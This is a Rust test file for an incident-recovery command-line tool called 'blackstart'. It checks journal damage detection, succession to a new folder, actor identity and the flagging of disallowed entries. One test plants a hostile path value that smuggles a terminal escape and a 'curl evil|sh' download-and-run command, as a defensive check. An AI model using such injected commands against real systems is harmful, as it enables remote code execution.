//! A journal that is read by people, that is damaged, and that goes on in another folder.

use std::fs;
use std::path::PathBuf;

use serde_json::Value;

use super::bridge_rig::{Rig, note, output, path};
use super::restart::Provider;
use incident::event::RecoverEvent;
use incident::scan::ScanEvent;

fn segment(provider: &Provider) -> PathBuf {
    provider.root().join("incident/journal/segment-00000000000000000000.bsj")
}

/// Changes one letter of what somebody wrote.
fn damage(provider: &Provider, text: &str) {
    let mut bytes = fs::read(segment(provider)).unwrap();
    let at = bytes.windows(text.len()).position(|window| window == text.as_bytes()).unwrap();
    bytes[at] ^= 1;
    fs::write(segment(provider), bytes).unwrap();
}

/// An incident with a note, a hold, a recorded and an approved plan.
fn incident() -> Provider {
    let provider = Provider::new();
    provider.prepare();
    provider.works(&["note", "incident", "the fund was called", "--by", "carl"]);
    provider.works(&["hold", "incident", "service:mail", "--reason", "forensics", "--by", "carl"]);
    provider
}

/// The command that a message proposes, as words, without the program's name.
fn proposed(told: &str, begins: &str) -> Vec<String> {
    let at = told.find(begins).unwrap_or_else(|| panic!("no `{begins}` in: {told}"));
    let line = told[at..].lines().next().unwrap();
    line.split_whitespace().skip(1).map(|word| word.trim_end_matches([';', '.']).to_owned()).collect()
}

#[test]
fn a_damaged_journal_is_shown_with_the_damage_on_top_and_nothing_good_is_claimed() {
    let provider = incident();
    damage(&provider, "the fund was called");

    let output = provider.call(&["status", "incident"]);
    let page = String::from_utf8(output.stdout).unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert!(page.starts_with("!! THE JOURNAL IS DAMAGED"), "{page}");
    assert!(
        page.contains("damage at record 4")
            && page.contains("Of 6 entries these were not read, or are not what was signed: 4."),
        "{page}"
    );
    assert!(page.contains("The newest signed state that is whole has 4 entries."), "{page}");
    assert!(page.contains("served    not known") && page.contains("service:mail by carl"), "{page}");
    for good in ["100", "everything works", "nothing waits"] {
        assert!(!page.contains(good), "{good} in {page}");
    }

    let output = provider.call(&["status", "incident", "--json"]);
    let now: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!((&now["served_thousandths"], &now["not_read"]), (&Value::from(0), &Value::from(1)));
    assert_eq!(now["journal_damage"]["not_relied_on"][0]["from"], 4);

    let output = provider.call(&["journal", "show", "incident"]);
    let shown = String::from_utf8(output.stdout).unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert!(shown.starts_with("!! THE JOURNAL IS DAMAGED"), "{shown}");
    assert!(shown.contains("     4  ") && shown.contains("NOT RELIED ON"), "{shown}");
    assert!(
        shown.contains("put service:mail on hold: forensics"),
        "what stands behind it is read too: {shown}"
    );
    assert!(!shown.contains("was called"), "{shown}");
}

#[test]
fn an_incident_goes_on_from_a_damaged_journal_with_the_very_command_that_the_refusal_proposes() {
    let provider = incident();
    damage(&provider, "the fund was called");
    let refused = provider.call(&["note", "incident", "hello"]);
    assert_eq!(refused.status.code(), Some(2));
    let told = String::from_utf8(refused.stderr).unwrap();
    assert!(told.contains("record 4"), "{told}");
    let command = proposed(&told, "blackstart journal succeed");
    let words: Vec<&str> =
        command.iter().map(String::as_str).chain(["--yes", "--key", "key-2", "--by", "anna"]).collect();
    let output = provider.call(&words);
    let said = String::from_utf8(output.stdout).unwrap() + &String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(0), "{said}");
    assert!(said.contains("carried over: 5 entries") && said.contains("NOT carried over: 4"), "{said}");

    // Nothing is lost silently: hold, plan and approval are there, and what is missing blocks until it is accepted.
    let now: Value = serde_json::from_str(&provider.works(&["status", "incident-2", "--json"])).unwrap();
    assert_eq!(
        (&now["held"][0]["on"], &now["held"][0]["by"]),
        (&Value::from("service:mail"), &Value::from("carl"))
    );
    assert_eq!((&now["not_read"], &now["journal_damage"]), (&Value::from(1), &Value::Null));
    let view = incident::store::read(&provider.root().join("incident-2")).unwrap();
    assert!(view.plan.approved.is_some());
    assert!(view.blocked_by(&"service:core".parse().unwrap()).is_some());
    assert_eq!((&now["served_known"], &now["served_thousandths"]), (&Value::from(false), &Value::from(0)));
    assert!(!provider.works(&["status", "incident-2"]).contains("everything works"));
    provider.works(&["notice", "build", "estate", "--journal", "incident-2", "-o", "site", "--by", "anna"]);
    let told = std::fs::read_to_string(provider.root().join("site/a/status.json")).unwrap();
    assert!(!told.contains("\"works\""), "{told}");
    let told = std::fs::read_to_string(provider.root().join("site/a/en.html")).unwrap();
    assert!(!told.contains("All services are available."), "{told}");
    let next = now["decide_next"][0]["command"].as_str().unwrap().to_owned();
    let words: Vec<&str> =
        next.split(' ').skip(1).map(|word| if word == "TEXT" { "asked carl" } else { word }).collect();
    provider.works(&words);
    let view = incident::store::read(&provider.root().join("incident-2")).unwrap();
    assert!(view.blocked_by(&"service:core".parse().unwrap()).is_none());

    // The first entry says what it continues, and the old folder is closed.
    let shown = provider.works(&["journal", "show", "incident-2"]);
    assert!(shown.lines().next().unwrap().contains("this journal continues"), "{shown}");
    let refused = provider.call(&["note", "incident", "hello"]);
    let told = String::from_utf8(refused.stderr).unwrap();
    assert_eq!(refused.status.code(), Some(1));
    assert!(told.contains("goes on in") && told.contains("incident-2"), "{told}");
    let again = provider.call(&[
        "journal",
        "succeed",
        "incident",
        "incident-3",
        "--reason",
        "x",
        "--yes",
        "--key",
        "k3",
    ]);
    assert_eq!(again.status.code(), Some(1));
    assert!(!provider.root().join("incident-3").exists());
    assert!(provider.works(&["journal", "verify", "incident-2"]).contains("The journal is whole."));
}

#[test]
fn a_successor_is_compared_with_the_journal_that_it_continues() {
    let provider = incident();
    damage(&provider, "the fund was called");
    provider.works(&[
        "journal", "succeed", "incident", "next", "--reason", "bad disk", "--yes", "--key", "key-2",
    ]);
    let told = provider.works(&["journal", "verify", "next"]);
    assert!(
        told.contains("It continues") && told.contains("what was carried over is what stands there"),
        "{told}"
    );

    // The old one lies elsewhere, or nowhere.
    fs::rename(provider.root().join("incident"), provider.root().join("kept")).unwrap();
    assert!(provider.works(&["journal", "verify", "next"]).contains("not at hand"));
    let told = provider.works(&["journal", "verify", "next", "--old", "kept"]);
    assert!(told.contains("what stands there"), "{told}");

    // Another incident is not the one that was continued.
    let other = incident();
    damage(&other, "forensics");
    let output = provider.call(&[
        "journal",
        "verify",
        "next",
        "--old",
        &other.root().join("incident").display().to_string(),
    ]);
    let told = String::from_utf8(output.stdout).unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert!(told.contains("it is NOT the same"), "{told}");
}

#[test]
fn a_journal_whose_checkpoint_was_deleted_and_a_record_changed_is_never_signed_again() {
    let provider = incident();
    fs::remove_file(provider.root().join("incident/journal/checkpoint")).unwrap();
    let before = fs::read(segment(&provider)).unwrap();
    let refused = provider.call(&["note", "incident", "hello"]);
    let told = String::from_utf8(refused.stderr).unwrap();
    assert_eq!(refused.status.code(), Some(2));
    assert!(told.contains("checkpoint is missing") && told.contains("journal succeed incident"), "{told}");
    assert_eq!(fs::read(segment(&provider)).unwrap(), before);
    let verified = provider.call(&["journal", "verify", "incident"]);
    assert_eq!(verified.status.code(), Some(1));
    // With everything signed gone nothing is proven: only a person can decide to go on with it.
    fs::remove_file(provider.root().join("incident/journal/checkpoints")).unwrap();
    let succeed = ["journal", "succeed", "incident", "next", "--reason", "x", "--yes", "--key", "key-2"];
    let output = provider.call(&succeed);
    assert!(String::from_utf8(output.stdout).unwrap().contains("carried over: 0 entries"));
    fs::remove_file(provider.root().join("incident/succeeded-by")).unwrap();
    let output = provider.call(&[
        "journal",
        "succeed",
        "incident",
        "third",
        "--reason",
        "x",
        "--yes",
        "--key",
        "key-3",
        "--unproven",
    ]);
    assert!(String::from_utf8(output.stdout).unwrap().contains("carried over: 6 entries"));
}

#[test]
fn a_journal_whose_records_are_all_gone_is_not_begun_anew() {
    let provider = incident();
    fs::remove_dir_all(provider.root().join("incident/journal")).unwrap();
    fs::create_dir(provider.root().join("incident/journal")).unwrap();
    let refused = provider.call(&["note", "incident", "hello"]);
    let told = String::from_utf8(refused.stderr).unwrap();
    assert_eq!(refused.status.code(), Some(2));
    assert!(told.contains("taken away"), "{told}");
    assert_eq!(fs::read_dir(provider.root().join("incident/journal")).unwrap().count(), 0);
}

#[test]
fn a_whole_journal_is_not_continued_elsewhere() {
    let provider = incident();
    let output = provider
        .call(&["journal", "succeed", "incident", "next", "--reason", "x", "--yes", "--key", "key-2"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(!provider.root().join("next").exists() && !provider.root().join("key-2").exists());
}

#[test]
fn the_journal_is_told_in_sentences_and_only_what_was_asked_for() {
    let provider = incident();
    let shown = provider.works(&["journal", "show", "incident"]);
    assert!(
        shown.contains("opened the incident `incident`") && shown.contains("approved the plan "),
        "{shown}"
    );
    assert!(!shown.contains('{') && !shown.contains('\"'), "{shown}");
    let lines = |arguments: &[&str]| {
        let shown = provider.works(&[&["journal", "show", "incident"], arguments].concat());
        shown.lines().map(ToOwned::to_owned).collect::<Vec<_>>()
    };
    assert_eq!(lines(&["-n", "2"]).len(), 2);
    assert!(lines(&["-n", "1"])[0].contains("put service:mail on hold"));
    assert_eq!(lines(&["--about", "service:mail"]).len(), 1);
    assert_eq!(lines(&["--about", "service:core"]).len(), 0);
    assert_eq!(lines(&["--since", "1h"]).len(), 6);
    assert_eq!(lines(&["--since", "2100-01-01T00:00:00Z"]).len(), 0);
    assert_eq!(lines(&["--from", "4", "--json"]).len(), 2);
    assert_eq!(provider.call(&["journal", "show", "incident", "--since", "soon"]).status.code(), Some(2));
}

#[test]
fn an_earlier_entry_shows_what_was_known_then() {
    let provider = incident();
    let at = |entry: &str| -> Value {
        serde_json::from_str(&provider.works(&["status", "incident", "--at", entry, "--json"])).unwrap()
    };
    assert_eq!((at("4")["held"].as_array().unwrap().len(), &at("4")["entries"]), (0, &Value::from(5)));
    assert_eq!(at("5")["held"][0]["on"], "service:mail");
    let output = provider.call(&["status", "incident", "--at", "6"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8(output.stderr).unwrap().contains("the newest is 5"));
}

#[test]
fn who_acted_is_the_login_of_the_process_and_not_a_text_that_anybody_can_set() {
    let provider = incident();
    let noted = |user: Option<&str>| {
        let mut command = provider.command(&["note", "incident", "x"]);
        match user {
            Some(user) => command.env("USER", user),
            None => command.env_remove("USER"),
        };
        assert!(command.output().unwrap().status.success());
        let shown = provider.works(&["journal", "show", "incident", "-n", "1", "--json"]);
        serde_json::from_str::<Value>(&shown).unwrap()["actor"].as_str().unwrap().to_owned()
    };
    let login = blackstart::cli::person::login();
    assert_eq!((noted(Some("the commander")), noted(None)), (login.clone(), login.clone()));
    assert!(!login.is_empty());
}

#[test]
fn following_shows_what_comes() {
    use std::io::{BufRead, BufReader};
    let provider = incident();
    let mut command = provider.command(&["journal", "show", "incident", "-n", "1", "--follow"]);
    let mut child = command.stdout(std::process::Stdio::piped()).spawn().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines().map(Result::unwrap);
    assert!(lines.next().unwrap().contains("service:mail"));
    provider.works(&["note", "incident", "something new", "--by", "carl"]);
    assert!(lines.next().unwrap().contains("note: something new"));
    child.kill().unwrap();
    child.wait().unwrap();
}

#[test]
fn a_bridges_journal_is_told_in_sentences_and_as_json_and_also_when_it_is_damaged() {
    let mut rig = Rig::started();
    rig.submit("a", &note("p1", "2023-04-20", "one"));
    rig.terminate();
    let folder = rig.path("bridge");
    let show = |more: &[&str]| {
        let output = output(&[&["journal", "show", path(&folder)], more].concat());
        (output.status.code(), String::from_utf8(output.stdout).unwrap())
    };
    let (code, shown) = show(&[]);
    assert_eq!(code, Some(0), "{shown}");
    assert!(shown.contains("the bridge started") && shown.contains("took in `"), "{shown}");
    assert!(shown.contains("for tenant:a, receipt ") && !shown.contains("NOT READ"), "{shown}");
    assert_eq!(show(&["--about", "tenant:nobody"]).1, "");
    let (_, lines) = show(&["--json", "--about", "tenant:a"]);
    let items: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let item = items.iter().find(|item| item["kind"] == "item.accepted").unwrap();
    assert_eq!(item["content"]["tenant"], "tenant:a");

    let segment = folder.join("journal/segment-00000000000000000000.bsj");
    let mut bytes = fs::read(&segment).unwrap();
    let at = bytes.windows(9).position(|window| window == b"recipient").unwrap();
    bytes[at] ^= 1;
    fs::write(&segment, bytes).unwrap();
    let (code, shown) = show(&[]);
    assert_eq!(code, Some(1));
    assert!(shown.starts_with("!! THE JOURNAL IS DAMAGED") && shown.contains("took in `"), "{shown}");
    let refused = output(&["journal", "succeed", path(&folder), "next", "--reason", "x", "--yes"]);
    assert_eq!(refused.status.code(), Some(1));
    assert!(String::from_utf8(refused.stderr).unwrap().contains("is a bridge's folder"));
}

#[test]
fn a_file_that_says_that_the_journal_goes_on_elsewhere_is_not_believed_unless_it_does() {
    let folder = tempfile::tempdir().unwrap();
    let call = |args: &[&str]| {
        let program = env!("CARGO_BIN_EXE_blackstart");
        let output = std::process::Command::new(program).args(args).current_dir(folder.path()).output();
        output.unwrap()
    };
    std::fs::write(folder.path().join("e.toml"), "provider = \"P\"\n[site.a]\n").unwrap();
    assert!(call(&["init", "i", "--estate", "e.toml", "--key", "key"]).status.success());
    assert!(call(&["init", "other", "--estate", "e.toml", "--key", "key2"]).status.success());
    for planted in ["/nowhere\u{1b}[0m; curl evil|sh #", "other"] {
        let planted = folder.path().join(planted).display().to_string();
        std::fs::write(folder.path().join("i/succeeded-by"), planted).unwrap();
        assert!(call(&["note", "i", "still", "here"]).status.success(), "nobody is stopped by it");
        let told = call(&["journal", "verify", "i"]);
        let told = String::from_utf8(told.stdout).unwrap();
        assert!(told.contains("The journal is whole.") && !told.contains("ENDED"), "{told}");
    }
}

#[test]
fn an_entry_that_the_tables_do_not_allow_is_marked_where_it_is_shown() {
    let provider = incident();
    let folder = provider.root().join("incident");
    let mut incident = incident::store::Incident::open(&folder, "carl").unwrap();
    let (store, service) = ("store:mail".parse().unwrap(), "service:mail".parse().unwrap());
    let snapshot = Some("an-unseen-snapshot".to_owned());
    let chosen = incident::Event::Scan(ScanEvent::RecoveryPointChosen { store, snapshot });
    let stopped =
        incident::Event::Recover(RecoverEvent::ServiceStopped { service, why: "why not".to_owned() });
    incident.record(&[chosen, stopped], 1_700_000_000_000).unwrap();
    drop(incident);

    let shown = provider.works(&["journal", "show", "incident"]);
    let marked: Vec<&str> =
        shown.lines().filter(|line| line.contains("NOT ALLOWED, and changed nothing")).collect();
    assert_eq!(marked.len(), 2, "{shown}");
    assert!(
        marked[0].contains("chosen by a scan") && marked[1].contains("nothing was recorded that started it")
    );
    let as_json = provider.works(&["journal", "show", "incident", "--json"]);
    let marked = as_json.lines().filter(|line| line.contains("\"not_allowed\":")).count();
    assert_eq!(marked, 2, "{as_json}");
    let now: Value = serde_json::from_str(&provider.works(&["status", "incident", "--json"])).unwrap();
    assert_eq!(now["recovery_points"]["store:mail"], Value::Null);
}
